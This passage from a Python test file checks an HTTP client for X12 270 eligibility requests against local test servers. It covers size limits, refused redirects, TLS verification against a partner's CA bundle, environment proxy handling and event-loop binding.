        if streamed:
            async def chunks():  # type: ignore[no-untyped-def]
                for start in range(0, len(big), 1 << 20):
                    yield big[start:start + (1 << 20)]

            await StreamingResponse(chunks(), media_type="application/soap+xml")(scope, receive, send)
        else:
            await Response(big, media_type="application/soap+xml")(scope, receive, send)

    with serve(huge) as base:  # type: ignore[arg-type]
        partner = partner_at(f"{base}/core")
        breakers = CircuitBreakers(failure_threshold=10)
        with pytest.raises(CoreProtocolError, match="larger than") as caught:
            send(partner, x12_270(partner), breakers=breakers)
    assert caught.value.partner_id == "acme"
    assert breakers.for_partner("acme").consecutive_failures == 1  # not retried: it was answered


def test_redirects_are_not_followed():
    moved: list[str] = []

    async def elsewhere(request: Request) -> Response:
        moved.append(request.url.path)
        return Response(status_code=500)

    async def redirect(request: Request) -> Response:
        return Response(status_code=307, headers={"Location": "/elsewhere"})

    app = Starlette(routes=[Route("/core", redirect, methods=["POST"]),
                            Route("/elsewhere", elsewhere, methods=["POST"])])
    with serve(app) as base:
        partner = partner_at(f"{base}/core")
        with pytest.raises(CoreHTTPError) as caught:
            send(partner, x12_270(partner))
    assert caught.value.status_code == 307 and moved == []


def test_tls_verifies_the_partner_against_its_ca_bundle(tmp_path):
    cert, key = self_signed(tmp_path)
    payer = Payer()
    server = ServerThread(payer_app(payer), "127.0.0.1", 0, ssl_certfile=str(cert), ssl_keyfile=str(key)).start()
    try:
        url = f"{server.url}/core"
        assert url.startswith("https://")
        trusted = partner_at(url, tls=f"{{ca_bundle: {cert}}}")
        assert send(trusted, x12_270(trusted)).response.ok
        # certifi's CAs do not vouch for it: refused at the handshake, so known not sent
        breakers = CircuitBreakers(failure_threshold=10)
        untrusted = partner_at(url)
        with pytest.raises(CoreUnavailableError, match="connection failed") as caught:
            send(untrusted, x12_270(untrusted), breakers=breakers)
        assert not caught.value.sent
        assert breakers.for_partner("acme").consecutive_failures == FAST_RETRY.max_attempts
        unverified = partner_at(url, tls="{verify: false}")
        assert send(unverified, x12_270(unverified)).response.ok
    finally:
        server.stop()
    assert len(payer.seen) == 2


def test_a_proxy_from_the_environment_is_used(monkeypatch):
    """HTTP_PROXY names a forward proxy (here a loopback server answering for the partner): the
    request goes to it in absolute form with the proxy's credentials; NO_PROXY or
    ``trust_env=False`` send it directly (to a port that refuses)."""
    sock = free_socket()  # the partner itself: bound, not listening
    partner_url = f"http://127.0.0.1:{sock.getsockname()[1]}/core"
    with RawHttpServer(core_answer) as server:
        for name in ("NO_PROXY", "no_proxy", "http_proxy", "ALL_PROXY", "all_proxy"):
            monkeypatch.delenv(name, raising=False)
        monkeypatch.setenv("HTTP_PROXY", server.url.replace("http://", "http://relay:s3cret@"))
        partner = partner_at(partner_url)
        assert send(partner, x12_270(partner)).response.ok
        [request] = server.requests
        assert request.line == f"POST {partner_url} HTTP/1.1"
        assert request.headers["proxy-authorization"] == "Basic " + base64.b64encode(b"relay:s3cret").decode()
        with pytest.raises(CoreUnavailableError, match="connection failed"):
            send(partner, x12_270(partner), trust_env=False)
        monkeypatch.setenv("NO_PROXY", "127.0.0.1")
        with pytest.raises(CoreUnavailableError, match="connection failed"):
            send(partner, x12_270(partner))
        assert len(server.requests) == 1
    sock.close()


def test_the_client_serves_the_event_loop_of_its_first_send():
    with serve(payer_app()) as base:
        partner = partner_at(f"{base}/core")
        c = client(partner)
        x12 = x12_270(partner)
        loop = asyncio.new_event_loop()
        try:
            assert loop.run_until_complete(c.send(x12)).response.ok
            with pytest.raises(RuntimeError, match="event loop"):
                asyncio.run(c.send(x12))
            loop.run_until_complete(c.aclose())
        finally:
            loop.close()
